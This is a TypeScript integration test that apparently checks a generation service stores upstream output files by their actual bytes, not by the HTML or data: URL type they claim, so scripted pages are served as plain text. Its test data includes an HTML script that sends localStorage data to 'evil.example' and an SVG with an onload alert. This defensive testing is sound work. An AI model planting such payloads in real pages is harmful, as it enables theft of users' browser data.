import { randomUUID } from 'node:crypto';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { createServer, Server } from 'node:http';
import { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { TestingModule } from '@nestjs/testing';
import { LedgerRepository } from '@genhub/billing-data-access';
import {
  AdapterRegistry,
  ModelCatalogue,
  buildProviders,
  parseProvidersFile,
} from '@genhub/providers';
import { OBJECT_STORAGE, ObjectStorage, StorageModule } from '@genhub/storage';
import { GetResultUseCase } from '@genhub/tasks-feature';
import { FakeFal, TINY_PNG } from '@genhub/testing';
import { engineTestingModule } from './engine-testing.fixture';
import { RunTaskUseCase } from './run/run-task.use-case';
import { SubmitTaskUseCase } from './submit/submit-task.use-case';

const SCRIPT = '<!doctype html><script>fetch("//evil.example/?k="+localStorage.key(0))</script>';

/**
 * What an upstream's output files are stored as (decision 0128): typed by
 * their bytes, never by the Content-Type its file server declares or the type
 * a `data:` URL names, with the short cache of every stored file. Real
 * local-disk storage; a fake fal answers the outputs; a file host of the
 * upstream's serves them.
 */
describe('output files of an upstream model (PostgreSQL + Redis + fake fal + local disk)', () => {
  let moduleRef: TestingModule;
  let fal: FakeFal;
  let files: Server;
  let filesUrl: string;
  let dir: string;
  let storage: ObjectStorage;
  let submit: SubmitTaskUseCase;
  let run: RunTaskUseCase;
  let result: GetResultUseCase;
  const accountId = randomUUID();

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'genhub-output-types-'));
    fal = await FakeFal.start();
    // The upstream's file host: every file declared as an HTML page.
    files = createServer((req, res) => {
      res.setHeader('content-type', 'text/html; charset=utf-8');
      if (req.url === '/page.html') return res.end(SCRIPT);
      if (req.url === '/binary') return res.end(Buffer.from([0x00, 0xff, 0x10, 0x80, 0x00]));
      if (req.url === '/image') return res.end(TINY_PNG);
      res.writeHead(404).end();
    });
    await new Promise<void>((resolve) => files.listen(0, '127.0.0.1', resolve));
    filesUrl = `http://127.0.0.1:${(files.address() as AddressInfo).port}`;
    const file = parseProvidersFile(
      JSON.stringify({
        upstreams: { fal: { kind: 'fal', base_url: fal.baseUrl, timeout_ms: 5000 } },
        models: [
          {
            slug: 'fal/flux/text-to-image',
            name: 'Flux',
            category: 'image',
            input: 'text-to-image',
            time_limit_ms: 10_000,
            channels: { stable: [{ upstream: 'fal', model: 'fal-ai/flux/dev', price: 0.01 }] },
          },
        ],
      }),
      'test',
      {},
    );
    const built = buildProviders({ ENABLE_SIMULATOR: false, ENABLE_LOCAL_MODELS: false }, file);
    moduleRef = await engineTestingModule({
      name: 'output-types-test',
      storage: StorageModule.forRoot(),
      env: {
        ...process.env,
        ALLOW_PRIVATE_NETWORK_URLS: 'true',
        STORAGE_DIR: join(dir, 'objects'),
      },
    })
      .overrideProvider(ModelCatalogue)
      .useValue(built.catalogue)
      .overrideProvider(AdapterRegistry)
      .useValue(built.registry)
      .compile();
    await moduleRef.init();
    submit = moduleRef.get(SubmitTaskUseCase);
    run = moduleRef.get(RunTaskUseCase);
    result = moduleRef.get(GetResultUseCase);
    storage = moduleRef.get(OBJECT_STORAGE);
    await moduleRef
      .get(LedgerRepository)
      .openAccount({ accountId, currency: 'USD', initialUnits: 10_000_000_000 });
  });

  afterAll(async () => {
    await moduleRef?.close();
    await fal?.close();
    await new Promise((resolve) => files?.close(resolve));
    await rm(dir, { recursive: true, force: true });
  });

  /** Runs one task whose upstream answers these output URLs; each stored file's key, type and cache. */
  async function storedOutputs(urls: string[]) {
    fal.scripts.push({ output: { images: urls.map((url) => ({ url })) } });
    const ack = await submit.execute({
      accountId,
      accountLevel: 'Bronze',
      provider: 'fal',
      model: 'flux',
      runType: 'text-to-image',
      body: { prompt: 'a page' },
    });
    expect((await run.execute({ taskId: ack.id })).outcome).toBe('completed');
    const { body } = await result.execute({ accountId, taskId: ack.id });
    if (body.status !== 'completed') throw new Error(`not completed: ${JSON.stringify(body)}`);
    return Promise.all(
      body.outputs.map(async (url) => {
        const key = storage.keyFromUrl(url) as string;
        const sidecar = JSON.parse(
          await readFile(join(dir, 'objects', '.meta', `${key}.json`), 'utf8'),
        ) as { cacheControl?: string };
        return {
          name: key.split('/').pop(),
          type: (await storage.stat(key))?.contentType,
          cache: sidecar.cacheControl,
        };
      }),
    );
  }

  const cache = 'public, max-age=300';

  it('stores files its file host declares as HTML by their bytes: text as plain text, the rest as downloads', async () => {
    expect(
      await storedOutputs([`${filesUrl}/page.html`, `${filesUrl}/binary`, `${filesUrl}/image`]),
    ).toEqual([
      { name: '0.txt', type: 'text/plain; charset=utf-8', cache },
      { name: '1.bin', type: 'application/octet-stream', cache },
      { name: '2.png', type: 'image/png', cache },
    ]);
  });

  it('stores data: outputs by their bytes, whatever type the URL names', async () => {
    const data = (type: string, bytes: Buffer | string) =>
      `data:${type};base64,${Buffer.from(bytes).toString('base64')}`;
    expect(
      await storedOutputs([
        data('text/html', SCRIPT),
        data('image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        data('application/javascript', Buffer.from([0x00, 0x61, 0x6c, 0xfe])),
        data('text/html', TINY_PNG),
      ]),
    ).toEqual([
      { name: '0.txt', type: 'text/plain; charset=utf-8', cache },
      { name: '1.txt', type: 'text/plain; charset=utf-8', cache },
      { name: '2.bin', type: 'application/octet-stream', cache },
      { name: '3.png', type: 'image/png', cache },
    ]);
  });
});
